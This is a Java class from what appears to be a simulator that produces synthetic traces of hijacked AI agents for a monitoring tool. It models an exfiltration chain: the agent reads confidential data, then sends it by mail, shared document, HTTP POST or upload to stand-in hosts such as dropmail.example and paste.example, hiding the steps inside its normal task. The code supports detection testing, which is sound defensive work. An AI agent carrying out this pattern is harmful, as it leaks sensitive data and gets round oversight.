package io.agentwatch.simulate.attacks;

import static io.agentwatch.simulate.roles.Tools.HTTP_POST;
import static io.agentwatch.simulate.roles.Tools.SEND_EMAIL;
import static io.agentwatch.simulate.roles.Tools.SHARE_DOC;
import static io.agentwatch.simulate.roles.Tools.UPLOAD_FILE;

import io.agentwatch.avro.Outcome;
import io.agentwatch.avro.Sensitivity;
import io.agentwatch.simulate.model.Agent;
import io.agentwatch.simulate.model.Fleet;
import io.agentwatch.simulate.model.Rand;
import io.agentwatch.simulate.model.Step;
import io.agentwatch.simulate.model.Task;
import io.agentwatch.simulate.model.TokenLedger;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.List;

/**
 * Exfiltration chain: the agent reads the most sensitive data its role can reach
 * (CONFIDENTIAL or RESTRICTED, in its own boundary), then sends it to a place it never used:
 * {@code dropmail.example} by mail or document sharing, {@code paste.example} by HTTP POST,
 * {@code filedrop.example} by upload. It uses a tool it already has where it can (support and
 * billing mail, research shares documents with a token that does not restrict boundaries), so
 * the send itself may be allowed by the token.
 */
public final class Exfiltration implements Hijack {
    private static final List<String> DROP_BOXES = List.of("collect", "backup-2026", "sync", "archive");

    @Override
    public List<String> preferredRoles() {
        return List.of("research", "support", "billing", "hr-assistant", "devops", "coding");
    }

    @Override
    public Task plan(Agent agent, Instant start, Fleet fleet, TokenLedger ledger) {
        Rand rand = agent.rand();
        Task own = agent.role().nextTask(agent, fleet);
        List<Step> chain = new ArrayList<>(agent.role().sensitiveReads(rand).stream()
                .map(s -> s.outcome(Outcome.OK)).toList());
        Sensitivity stolen = chain.stream().map(Step::sensitivity).max(Comparator.naturalOrder()).orElseThrow();
        for (int i = rand.between(1, 2); i > 0; i--) {
            chain.add(egress(agent.role().name(), rand).sensitivity(stolen).outcome(Outcome.OK));
        }
        return Takeover.splice(own, chain, rand);
    }

    private static Step egress(String role, Rand rand) {
        String mailbox = "mailto:" + rand.pick(DROP_BOXES) + "@dropmail.example";
        return switch (role) {
            case "research" -> SHARE_DOC.on(mailbox).in("dropmail.example");
            case "support", "billing" -> SEND_EMAIL.on(mailbox).in("dropmail.example");
            default -> rand.chance(0.5)
                    ? HTTP_POST.on("https://paste.example/api/v1/pastes").in("paste.example")
                    : UPLOAD_FILE.on("https://filedrop.example/u/" + rand.between(100000, 999999)).in("filedrop.example");
        };
    }
}
